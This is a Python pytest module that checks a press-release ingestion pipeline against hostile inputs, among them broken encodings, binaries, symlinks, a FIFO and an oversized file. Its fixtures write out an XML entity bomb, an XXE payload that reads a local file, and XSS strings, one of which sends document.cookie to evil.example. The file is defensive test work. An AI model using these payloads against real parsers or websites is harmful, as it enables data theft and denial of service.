"""Hostile inputs through the whole batch (issue 5): each ends as a document or a rejects row with a reason
a person understands, and the good releases of the same batch come out exactly as they do alone.

The inputs are written here, in tmp_path, not shipped as fixture files.
"""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pandas as pd
import pytest

from pipeline.engine.run import run_batch
from pipeline.engine.settings import Settings
from schemas.models import TABLES
from tests.conftest import SEED

SECRET = "XXE-SECRET-7f3a91 contents of a private local file"

PLAIN_RELEASE = """Korea and Norway Hold Policy Consultation on Arctic Cooperation

Seoul, March 12, 2026

The Ministry of Foreign Affairs of the Republic of Korea held the fifth policy consultation with Norway on \
Arctic cooperation in Seoul on March 12.

The two sides discussed scientific research, shipping routes and the protection of the Arctic environment, \
and agreed to hold the next consultation in Oslo.
"""

RSS_HEAD = ('<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0" '
            'xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>'
            "<title>Ministry of Foreign Affairs, Republic of Korea &gt; Press &gt; Press Releases</title>"
            "<link>https://www.mofa.go.kr/eng/brd/m_5676/list.do</link>")
RSS_TAIL = "</channel></rss>"


def rss_item(seq: int, title: str, body: str | None, pub: str | None = "Tue, 10 Mar 2026 03:00:00 GMT") -> str:
    parts = [f"<item><title>{title}</title>",
             f"<link>https://www.mofa.go.kr/eng/brd/m_5676/view.do?seq={seq}&amp;page=1</link>"]
    if pub:
        parts.append(f"<pubDate>{pub}</pubDate>")
    if body is not None:
        parts.append(f"<content:encoded><![CDATA[{body}]]></content:encoded>")
    return "".join(parts) + "</item>"


GOOD_ITEM_BODY = ("The Minister of Foreign Affairs met the Foreign Minister of Kenya in Seoul on March 10 and "
                  "discussed cooperation in trade, health and climate change. The two ministers agreed to "
                  "hold a joint commission in Nairobi later this year.")


def html_page(title: str, body_html: str, charset: str | None = "utf-8", head_extra: str = "") -> str:
    meta = f'<meta charset="{charset}">' if charset else ""
    return (f"<!DOCTYPE html><html lang=\"en\"><head>{meta}<title>MOFA</title>{head_extra}</head><body>"
            '<div id="header"><ul class="gnb"><li><a href="/eng/">Home</a></li><li><a href="/eng/news">'
            "Ministry News</a></li><li><a href=\"/eng/press\">Press</a></li></ul></div>"
            '<div id="container"><div class="board_view">'
            f'<h3 class="title">{title}</h3><p class="date">Date 2026-03-09</p><p>hit 231</p>'
            f'<div class="view_content">{body_html}</div></div></div>'
            '<div id="footer"><p>Copyright Ministry of Foreign Affairs. All rights reserved.</p></div>'
            "</body></html>")


ENGLISH_BODY = ("<p>The Vice Minister of Foreign Affairs met the Ambassador of Côte d’Ivoire in Seoul on March 9 "
                "and discussed cooperation in energy, infrastructure and education.</p>"
                "<p>The two sides agreed to continue high-level exchanges and to strengthen economic ties "
                "between the two countries.</p>")

EUCKR_TEXT = """바로가기 메뉴
본문 바로가기
주메뉴 바로가기
검색창 열기

Ministry News

Vice Minister Meets Delegation of Korean Residents Association

Date
2026-03-09
hit
118

Vice Minister Meets Delegation of Korean Residents Association

The Vice Minister of Foreign Affairs met a delegation of the Korean Residents Association (재외동포협의회) \
in Seoul on March 9 and thanked them for their contribution to friendship between Korea and their countries \
of residence.

The Vice Minister said the government would continue to support overseas Koreans (재외동포) and their \
communities.
"""

LATIN1_TEXT = """Korea and Côte d'Ivoire Hold First Policy Consultation

The Ministry of Foreign Affairs held the first policy consultation with Côte d'Ivoire in Abidjan on March 4. \
The délégation of each side reviewed cooperation in agriculture, energy and health.

Both sides agreed that the consultation would be held every two years, alternately in Seoul and Abidjan.
"""

KOREAN_RELEASE = """외교부는 3월 9일 서울에서 제5차 한-노르웨이 북극협력 정책협의회를 개최하였다.

양측은 과학 연구, 북극 항로, 환경 보호 등 다양한 분야에서의 협력 방안을 논의하고, 차기 협의회를 오슬로에서 \
개최하기로 합의하였다.

외교부는 앞으로도 북극 이사회 옵서버로서 북극 협력에 적극 기여해 나갈 것이라고 밝혔다.
"""


def write_good(raw: Path) -> None:
    """The releases that must come out the same whatever lands beside them."""
    raw.mkdir(parents=True, exist_ok=True)
    shutil.copy(SEED, raw / SEED.name)
    (raw / "good_plain.txt").write_text(PLAIN_RELEASE, encoding="utf-8")
    (raw / "good_feed.xml").write_text(
        RSS_HEAD + rss_item(330001, "Foreign Minister Meets Foreign Minister of Kenya", GOOD_ITEM_BODY) + RSS_TAIL,
        encoding="utf-8")


def write_hostile(raw: Path, outside: Path) -> None:
    h = raw / "hostile"
    h.mkdir(parents=True)
    (h / "empty.txt").write_bytes(b"")
    (h / "whitespace.txt").write_bytes(b"  \n\t\n   \r\n ")
    pdf = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"
    (h / "report.txt").write_bytes(pdf + bytes(range(256)) * 40)
    (h / "photo.html").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 40)
    nav = ('<!DOCTYPE html><html><head><meta charset="utf-8"><title>MOFA</title></head><body>'
           '<div id="header"><ul><li><a href="/eng/">Home</a></li><li><a href="/eng/news">Ministry News</a></li>'
           '<li><a href="/eng/press">Press Releases</a></li><li><a href="/eng/brief">Briefings</a></li></ul></div>'
           '<div id="footer"><a href="/eng/sitemap">Sitemap</a> <a href="/eng/privacy">Privacy Policy</a></div>'
           "</body></html>")
    (h / "nav_only.html").write_text(nav, encoding="utf-8")
    cut = html_page("Korea and Peru Sign Agreement on Visa Exemption", ENGLISH_BODY)
    (h / "cut.html").write_text(cut[: cut.index("</p><p>The two sides") + 20] + '<a href="/eng/li', encoding="utf-8")
    deep = html_page("Foreign Minister Meets Counterpart of Ghana", "<div>" * 50_000
                     + "<p>The Minister of Foreign Affairs met the Foreign Minister of Ghana in Seoul on March 11 "
                     "and discussed cooperation in trade and health.</p>" + "</div>" * 50_000)
    (h / "deep.html").write_text(deep, encoding="utf-8")
    (h / "nul.txt").write_bytes(PLAIN_RELEASE.replace("Norway", "Finland").replace("Oslo", "Helsinki")
                                .encode("utf-8").replace(b"policy consultation", b"policy\x00 consultation", 1))
    (h / "euckr_declared.html").write_bytes(
        html_page("Vice Minister Meets Delegation of Korean Residents (재외동포협의회)",
                  "<p>The Vice Minister of Foreign Affairs met a delegation of overseas Koreans (재외동포) in "
                  "Seoul on March 9 and thanked them for their contribution to friendship between nations.</p>"
                  "<p>The Vice Minister said the government would continue to support their communities.</p>",
                  charset="euc-kr").encode("euc-kr"))
    (h / "euckr_undeclared.txt").write_bytes(EUCKR_TEXT.encode("euc-kr"))
    (h / "utf16.txt").write_bytes(("\ufeff" + PLAIN_RELEASE.replace("Norway", "Côte d’Ivoire")
                                   .replace("Oslo", "Abidjan").replace("Arctic", "Ocean")).encode("utf-16-le"))
    (h / "latin1.txt").write_bytes(LATIN1_TEXT.encode("latin-1"))
    (h / "malformed.xml").write_text(RSS_HEAD + "<item><title>Broken <b>item</title><link>x</link>",
                                     encoding="utf-8")
    (h / "partial_feed.xml").write_text(
        RSS_HEAD
        + rss_item(330101, "Foreign Minister Meets Foreign Minister of Brazil",
                   GOOD_ITEM_BODY.replace("Kenya", "Brazil").replace("Nairobi", "Brasília"), pub=None)
        + rss_item(330102, "Item Without Body", None)
        + RSS_TAIL, encoding="utf-8")
    bomb = ('<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY lol "lol">'
            + "".join(f'<!ENTITY lol{i + 1} "{("&lol" + (str(i) if i else "") + ";") * 10}">' for i in range(9))
            + ']><rss version="2.0"><channel><title>Press Releases</title><item><title>&lol9;</title>'
            "<link>https://www.mofa.go.kr/eng/brd/m_5676/view.do?seq=330201</link>"
            "<description>&lol9;</description></item></channel></rss>")
    (h / "bomb.xml").write_text(bomb, encoding="utf-8")
    secret = outside / "secret.txt"
    secret.write_text(SECRET)
    xxe = (f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file://{secret}">]>'
           '<rss version="2.0"><channel><title>Press Releases</title><item><title>Leak &xxe;</title>'
           "<link>https://www.mofa.go.kr/eng/brd/m_5676/view.do?seq=330301</link>"
           f"<description>{GOOD_ITEM_BODY} &xxe;</description></item></channel></rss>")
    (h / "xxe.xml").write_text(xxe, encoding="utf-8")
    (h / "korean.txt").write_text(KOREAN_RELEASE, encoding="utf-8")
    with open(h / "huge.txt", "wb") as fh:
        line = (PLAIN_RELEASE.replace("\n", " ") + "\n").encode()
        fh.write(line * (30 * 1024 * 1024 // len(line) + 1))
    (h / "link_out.txt").symlink_to(secret)
    (h / "folder_out").symlink_to(outside, target_is_directory=True)
    (h / "loop_a.txt").symlink_to(h / "loop_b.txt")
    (h / "loop_b.txt").symlink_to(h / "loop_a.txt")
    os.mkfifo(h / "pipe.txt")  # opening it for reading would block the batch for ever
    (h / "script_title.html").write_text(
        html_page("Minister &lt;b&gt;Meets&lt;/b&gt; Envoy &lt;script&gt;alert(1)&lt;/script&gt;",
                  ENGLISH_BODY.replace("Côte d’Ivoire", "Senegal")
                  + "<script>document.location='https://evil.example/?c='+document.cookie</script>"),
        encoding="utf-8")
    (h / "script_feed.xml").write_text(
        RSS_HEAD + rss_item(330401, "Envoy &lt;img src=x onerror=alert(2)&gt; Visits Seoul",
                            GOOD_ITEM_BODY.replace("Kenya", "Ghana").replace("Nairobi", "Accra")
                            + " <script>alert(3)</script>") + RSS_TAIL, encoding="utf-8")


@pytest.fixture(scope="module")
def batch(tmp_path_factory, session_extract):
    """One batch with everything hostile beside the good releases, and the good releases alone."""
    root = tmp_path_factory.mktemp("hostile")
    raw, outside = root / "raw", root / "outside"
    outside.mkdir()
    write_good(raw)
    write_hostile(raw, outside)
    out = root / "processed"
    run_batch(raw, out, Settings(), extract_fn=session_extract)
    good_raw, good_out = root / "good_raw", root / "good_processed"
    write_good(good_raw)
    run_batch(good_raw, good_out, Settings(), extract_fn=session_extract)
    return out, good_out


def _t(out: Path, name: str) -> pd.DataFrame:
    return pd.read_parquet(out / f"{name}.parquet")


def _status(out: Path) -> pd.DataFrame:
    return _t(out, "manifest").set_index("source")


def _doc(out: Path, source: str) -> pd.Series:
    docs = _t(out, "documents")
    rows = docs[docs["source"].str.split("#").str[0] == source]
    assert len(rows) == 1, f"{source}: {len(rows)} documents"
    return rows.iloc[0]


def _rejected(out: Path, source: str, *words: str) -> str:
    m = _status(out)
    assert m.loc[source, "status"] == "rejected", (source, m.loc[source].to_dict())
    reason = m.loc[source, "reason"]
    rejects = _t(out, "rejects")
    assert source in set(rejects["source"].str.split("#").str[0]), source
    for w in words:
        assert w.lower() in reason.lower(), (source, reason)
    return reason


def test_every_input_is_accounted_for(batch):
    out, _ = batch
    m = _status(out)
    raw_sources = {"000_1ec2c721142b1f41.txt", "good_plain.txt", "good_feed.xml"}
    assert raw_sources <= set(m.index)
    assert len(m) == 3 + 25, sorted(m.index)
    assert m["status"].isin(["ok", "rejected", "duplicate", "unchanged"]).all()
    assert m[m["status"] == "rejected"]["reason"].str.len().gt(10).all()


def test_good_releases_are_unaffected(batch):
    out, good = batch
    keep = ["doc_id", "source", "url", "sha256", "category", "title", "subtitle", "published", "hits", "language",
            "text", "n_sentences"]
    ours = _t(out, "documents")
    ours = ours[~ours["source"].str.startswith("hostile/")][keep].reset_index(drop=True)
    pd.testing.assert_frame_equal(ours, _t(good, "documents")[keep].reset_index(drop=True))
    ids = set(_t(good, "documents")["doc_id"])
    for name in ("sentences", "mentions", "claims"):
        a = _t(out, name)
        pd.testing.assert_frame_equal(a[a["doc_id"].isin(ids)].reset_index(drop=True), _t(good, name))


def test_empty_whitespace_and_binary(batch):
    out, _ = batch
    _rejected(out, "hostile/empty.txt", "empty")
    _rejected(out, "hostile/whitespace.txt", "whitespace")
    _rejected(out, "hostile/report.txt", "binary", "PDF")
    _rejected(out, "hostile/photo.html", "binary", "PNG")


def test_navigation_only_page(batch):
    _rejected(batch[0], "hostile/nav_only.html", "no body text")


def test_html_cut_mid_tag_keeps_what_arrived(batch):
    doc = _doc(batch[0], "hostile/cut.html")
    assert doc["title"] == "Korea and Peru Sign Agreement on Visa Exemption"
    assert "discussed cooperation in energy, infrastructure and education." in doc["text"]
    assert "<a" not in doc["text"] and "href" not in doc["text"]


def test_50000_levels_of_nesting(batch):
    doc = _doc(batch[0], "hostile/deep.html")
    assert doc["title"] == "Foreign Minister Meets Counterpart of Ghana"
    assert "Foreign Minister of Ghana in Seoul on March 11" in doc["text"]


def test_nul_bytes_dropped(batch):
    doc = _doc(batch[0], "hostile/nul.txt")
    assert "\x00" not in doc["text"] and "Finland" in doc["text"]


def test_euc_kr_with_and_without_declared_charset(batch):
    out, _ = batch
    declared = _doc(out, "hostile/euckr_declared.html")
    assert "재외동포" in declared["text"] and "재외동포협의회" in declared["title"]
    undeclared = _doc(out, "hostile/euckr_undeclared.txt")
    assert "재외동포협의회" in undeclared["text"]
    assert undeclared["title"] == "Vice Minister Meets Delegation of Korean Residents Association"
    for text in (declared["text"], undeclared["text"]):
        assert "Ã" not in text and "\ufffd" not in text and "ì" not in text


def test_utf16_bom(batch):
    utf16 = _doc(batch[0], "hostile/utf16.txt")
    assert "Côte d’Ivoire" in utf16["text"] and "\x00" not in utf16["text"] and "Ã" not in utf16["text"]


def test_latin1_without_declaration(batch):
    latin1 = _doc(batch[0], "hostile/latin1.txt")
    assert "Côte d'Ivoire" in latin1["title"] and "délégation" in latin1["text"]
    assert "Ã" not in latin1["text"] and "¶" not in latin1["text"]


def test_malformed_rss(batch):
    _rejected(batch[0], "hostile/malformed.xml", "malformed XML")


def test_rss_item_without_date_is_kept_and_item_without_body_is_rejected(batch):
    out, _ = batch
    m = _status(out)
    assert m.loc["hostile/partial_feed.xml", "status"] == "ok"
    assert len(m.loc["hostile/partial_feed.xml", "doc_ids"]) == 1
    doc = _doc(out, "hostile/partial_feed.xml")
    assert pd.isna(doc["published"]) and "Brazil" in doc["title"]
    rejects = _t(out, "rejects")
    item = rejects[rejects["source"].str.startswith("hostile/partial_feed.xml")]
    assert len(item) == 1 and "no body" in item.iloc[0]["reason"]


def test_external_entity_never_reaches_any_output(batch):
    out, _ = batch
    for path in out.rglob("*"):
        if path.is_file():
            assert b"XXE-SECRET-7f3a91" not in path.read_bytes(), path
    assert "lollollol" not in " ".join(_t(out, "documents")["text"])


def test_entity_bomb_and_external_entity_feeds_are_rejected(batch):
    out, _ = batch
    _rejected(out, "hostile/bomb.xml", "entities")
    _rejected(out, "hostile/xxe.xml", "entities")


def test_korean_release_goes_through_the_korean_path(batch):
    """A Korean release among hostile files is a document of language 'ko' with its claims, not a reject."""
    out = batch[0]
    assert _status(out).loc["hostile/korean.txt", "status"] == "ok"
    docs = _t(out, "documents").set_index("source")
    assert docs.loc["hostile/korean.txt", "language"] == "ko"
    claims = _t(out, "claims")
    doc_id = docs.loc["hostile/korean.txt", "doc_id"]
    assert (claims["doc_id"] == doc_id).any()


def test_30_mb_file_refused_with_size_reason(batch):
    _rejected(batch[0], "hostile/huge.txt", "MB", "limit")


def test_symlinks_outside_raw_looping_or_to_folders_are_not_followed(batch):
    out, _ = batch
    _rejected(out, "hostile/link_out.txt", "outside the raw folder")
    _rejected(out, "hostile/folder_out", "outside the raw folder")
    _rejected(out, "hostile/loop_a.txt", "cannot be resolved")
    _rejected(out, "hostile/loop_b.txt", "cannot be resolved")


def test_fifo_is_not_opened(batch):
    _rejected(batch[0], "hostile/pipe.txt", "not a regular file")


def test_markup_in_html_title_is_kept_as_text(batch):
    page = _doc(batch[0], "hostile/script_title.html")
    assert page["title"] == "Minister <b>Meets</b> Envoy <script>alert(1)</script>"


def test_markup_and_script_in_titles_are_text_and_scripts_dropped(batch):
    out, _ = batch
    page = _doc(out, "hostile/script_title.html")
    assert "document.cookie" not in page["text"] and "evil.example" not in page["text"]
    item = _doc(out, "hostile/script_feed.xml")
    assert item["title"] == "Envoy <img src=x onerror=alert(2)> Visits Seoul"
    # content:encoded is plain text: a <script> in it is either dropped or kept verbatim as characters
    assert "alert(3)" not in item["text"] or "<script>alert(3)</script>" in item["text"]
    # any HTML the batch publishes must show the markup escaped, never as live tags
    for html in out.rglob("*.html"):
        body = html.read_text(encoding="utf-8")
        assert "<script>alert(1)" not in body and "<img src=x" not in body, html


def test_tables_are_complete(batch):
    out, _ = batch
    for name in TABLES:
        assert (out / f"{name}.parquet").exists() and (out / f"{name}.csv").exists()
